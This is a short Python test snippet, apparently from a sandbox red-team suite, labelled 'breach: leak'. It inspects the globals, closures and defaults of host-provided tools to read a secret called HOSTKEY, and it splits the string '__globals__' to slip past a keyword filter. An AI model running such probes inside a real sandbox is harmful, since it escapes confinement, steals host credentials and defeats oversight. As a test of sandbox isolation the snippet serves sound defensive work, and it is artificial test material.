# Tool secrets in the host: reads a secret kept in the closure of a host tool.
# breach: leak
for f in (add, get_config):
    for n in ('__globals__', '__closure__', '__defaults__', '__kwdefaults__'):
        try:
            v = getattr(f, n)
            print(v.get('HOSTKEY') if isinstance(v, dict) else [getattr(c, 'cell_contents', c) for c in v or ()])
            for c in v or (): 
                t = getattr(c, 'cell_contents', None); fn = getattr(t, 'fn', None)
                if fn: print(getattr(fn, '__glo'+'bals__').get('HOSTKEY'))
        except Exception as e: print(e)
